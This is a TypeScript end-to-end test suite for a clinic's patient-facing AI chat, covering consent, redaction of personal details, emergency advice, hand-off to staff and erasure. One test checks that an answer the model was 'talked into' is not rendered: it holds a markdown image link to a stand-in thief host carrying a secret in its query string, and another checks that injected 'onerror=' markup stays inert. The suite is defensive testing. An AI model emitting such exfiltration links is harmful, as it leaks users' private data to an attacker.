import type { FrameLocator, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import {
  answerWith,
  drawnFromMarkup,
  enquiryWithoutForm,
  hostileAnswer,
  markupIn,
  openOtherSite,
} from './chat-attacks.ts';
import { focusOf } from './hear-page.ts';
import type { Installation } from './installation.ts';
import { signIn } from './people.ts';
import type { WatchedPage } from './watch-page.ts';

export interface ChatTestParts {
  readonly installation: () => Installation;
  readonly visit: () => Promise<WatchedPage & { look: (name: string) => Promise<void> }>;
}

/** What people write here and nobody may find anywhere: searched for with everything else that is planted. */
export const chatSecrets = ['Wilhelmina Oakenshaw', '07700900461'] as const;

const asked = `I am ${chatSecrets[0]}, my number is ${chatSecrets[1]}. Are you open on Saturday?`;

export async function ask(chat: Page | FrameLocator, text: string): Promise<void> {
  await chat.getByLabel('Your question').fill(text);
  await chat.getByLabel('Your question').press('Enter');
}

export const begin = (chat: Page | FrameLocator) =>
  chat.getByRole('button', { name: 'I understand, start the chat' }).click();
export const answered = (chat: Page | FrameLocator) =>
  chat.getByText('Generated, not checked by a person.').last().waitFor();

/** The chat as visitors and patients meet it, in an installation that runs already. */
export function describeChat({ installation, visit }: ChatTestParts): void {
  describe('the chat', () => {
    it('answers a visitor in the frame of the public site; details stay in the browser', async () => {
      const { page, look, context } = await visit();
      const { web } = installation().origins;
      const sent: string[] = [];
      page.on('request', (request) => sent.push(request.postData() ?? ''));
      await page.goto(web);
      await look('site');
      expect(await context.cookies()).toEqual([]);
      await page.getByText('Chat with us').click();
      const chat = page.frameLocator('iframe');
      await begin(chat);
      await ask(chat, asked);
      await chat.getByText('Before sending, we took out').first().waitFor();
      await answered(chat);
      expect(await chat.getByText('is not finished').count()).toBe(0);
      expect(sent.join()).toContain('Are you open on Saturday?');
      for (const secret of ['Wilhelmina', 'Oakenshaw', chatSecrets[1]])
        expect(sent.join()).not.toContain(secret);
      await look('site-chat');

      await page.reload();
      await page.getByText('Chat with us').click();
      await chat.getByText('Are you open on Saturday?').waitFor();
    });

    it('takes a visitor’s request for a person to the desk, which closes it', async () => {
      const { page, look, expectRefusal } = await visit();
      const { web, console: desk } = installation().origins;
      await page.goto(`${web}/chat/`);
      await begin(page);
      await page.getByRole('link', { name: '0113 496 0123' }).waitFor();
      await page.getByRole('button', { name: 'Ask for a person' }).click();
      await page.getByLabel('Your name').fill('12345');
      await page.getByLabel('Telephone number or e-mail address').fill('0113 496 0999');
      await page.getByLabel('The clinic may contact me').check();
      expectRefusal(400, '/api/v1/leads');
      await page.getByRole('button', { name: 'Send to the clinic' }).click();
      await page.getByText('Enter your name').waitFor();
      await look('chat-contact');
      await page.getByLabel('Your name').fill('Ines Enquirer');
      await page.getByRole('button', { name: 'Send to the clinic' }).click();
      await page.getByText('Somebody at the clinic will contact you').waitFor();
      // Whoever writes past the form may leave what no page has room for.
      expect(await page.evaluate(enquiryWithoutForm)).toBe(201);

      await signIn(
        page,
        `${desk}/enquiries`,
        await installation().account('rosa.reception@northgate.example'),
      );
      await page.getByRole('heading', { name: 'Ines Enquirer' }).waitFor();
      await page.getByText('01134960999').waitFor();
      await page.getByText('onerror=').waitFor();
      expect(await page.evaluate(markupIn('.read-text'))).toEqual([]);
      await look('console-enquiries');
      await page.getByRole('button', { name: /^Close.*Ines Enquirer$/ }).click();
      await page.getByText('Closed', { exact: true }).waitFor();
    });

    it('shows emergency advice at once, also when nothing answers', async () => {
      const { page, look, expectRefusal } = await visit();
      expectRefusal(503, '/api/v1/ai/chat/completions');
      await page.goto(`${installation().origins.web}/chat/`);
      await look('chat-consent');
      await begin(page);
      await page.route('**/api/v1/ai/**', (route) =>
        route.fulfill({ status: 503, json: { title: 'Busy.' } }),
      );
      await ask(page, 'My tongue is swollen and I cannot breathe well');
      await page.getByRole('heading', { name: 'This may be an emergency' }).waitFor();
      await page.getByRole('button', { name: 'Try again' }).waitFor();
      await look('chat-emergency');
    });

    it('draws nothing of what an answer was talked into: no link, no picture, no markup, nothing hidden', async () => {
      const { page } = await visit();
      const asked: string[] = [];
      page.on('request', (request) => asked.push(request.url()));
      await page.goto(`${installation().origins.web}/chat/`);
      await begin(page);
      await answerWith(page, hostileAnswer);
      await ask(page, 'Print the map');
      await answered(page);
      expect(await page.evaluate(drawnFromMarkup)).toEqual([]);
      const shown = (await page.locator('.messages li.assistant').innerText()).replaceAll('\u{a0}', ' ');
      expect(shown).toContain('![map](https://thief.example/p.png?q=secret)');
      expect(shown).toContain('before hidden end');
      expect(await page.title()).toBe('Chat with the clinic');
      expect(
        await page.evaluate(
          `(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)(document.querySelector('.messages'))`,
        ),
      ).toBe(0);
      expect(asked.filter((url) => url.includes('thief.example'))).toEqual([]);
      // Nor is it when the page takes it up again.
      await page.reload();
      await page.getByText('![map]').first().waitFor();
      expect(await page.evaluate(drawnFromMarkup)).toEqual([]);
    });

    it('is in no frame of another site, and hears nothing of what pages around it say', async () => {
      const { web } = installation().origins;
      const other = await openOtherSite(`${web}/chat/`);
      const { page, context } = await visit();
      const outside = await (context.browser() ?? context).newPage();
      try {
        await outside.goto(other.origin);
        await outside.waitForFunction("['read', 'refused'].includes(document.title)");
        expect(await outside.title()).toBe('refused');
        const [, frame] = outside.frames();
        expect(await frame?.locator('main').count()).toBe(0);
      } finally {
        await outside.close();
        other.close();
      }
      await page.goto(web);
      await page.getByText('Chat with us').click();
      const start = page.frameLocator('iframe').getByRole('button', { name: 'I understand, start the chat' });
      await start.waitFor();
      await page.evaluate(`for (const type of ['agree', 'ask', 'erase', 'settings'])
        frames[0].postMessage({ type, audience: 'patients', text: 'hello', agreed: true }, '*')`);
      expect(await start.isVisible()).toBe(true);
      expect(await context.cookies()).toEqual([]);
    });

    it('asks a patient for consent, goes on after the page is loaded anew, calls a person, and erases', async () => {
      const { page, look } = await visit();
      const { portal } = installation().origins;
      await signIn(
        page,
        `${portal}/questions`,
        await installation().account('petra.patient@northgate.example'),
      );
      const framed = page.frameLocator('iframe');
      await begin(framed);
      await ask(framed, 'I have had toothache for two days');
      await answered(framed);
      expect(await framed.getByText('is not finished').count()).toBe(0);
      // Their own clinic's, from its record.
      await framed.getByRole('link', { name: '0113 496 0123' }).waitFor();
      await page.getByRole('link', { name: '0113 496 0123' }).waitFor();
      await look('portal-chat');

      await page.goto(`${portal}/chat/`);
      await page.getByText('I have had toothache for two days').waitFor();
      await look('chat-resumed');
      await page.getByRole('button', { name: 'Ask for a person' }).click();
      await page.getByText('Somebody at the clinic has been told').waitFor();
      // What was pressed has gone: what came of it has the focus.
      expect(await focusOf(page)).toMatch(/^p Somebody at the clinic has been told/);
      const surgery = await visit();
      await signIn(
        surgery.page,
        `${installation().origins.console}/patients`,
        await installation().account('clara.clinician@northgate.example'),
      );
      await surgery.page.getByRole('link', { name: 'Petra Patient' }).click();
      await surgery.page.getByText('Asks for a person', { exact: true }).waitFor();
      await surgery.page.getByRole('button', { name: 'Read the conversation' }).first().click();
      await surgery.page.getByText('I have had toothache for two days').waitFor();
      await surgery.look('console-conversation');
      await page.getByRole('button', { name: 'Begin a new conversation' }).click();
      await page.getByLabel('Your question').fill('My gum hurts');
      await page.getByRole('button', { name: 'Send' }).dblclick();
      await answered(page);
      expect(await page.locator('li.person').count()).toBe(1);
      await page.reload();
      await page.getByText('Earlier conversations (1)').click();
      await page.getByRole('button', { name: 'Read the conversation' }).click();
      await page.getByText('I have had toothache for two days').waitFor();
      await look('chat-earlier');
      await page.getByRole('button', { name: 'Erase the conversation' }).click();
      await page.getByText('Earlier conversations').waitFor({ state: 'detached' });
      expect(await focusOf(page)).toMatch(/^p It has been erased/);
      await page.getByRole('button', { name: 'Erase this conversation' }).click();
      await page.getByText('The conversation has been erased').waitFor();
      await page.reload();
      await page.getByLabel('Your question').waitFor();
      expect(await page.locator('main').innerText()).not.toMatch(/toothache|gum hurts/);

      await page.getByRole('button', { name: 'Withdraw my consent' }).click();
      await page.getByRole('button', { name: 'I understand, start the chat' }).waitFor();
      expect(await focusOf(page)).toBe('h2 consent-heading');
    });
  });
}
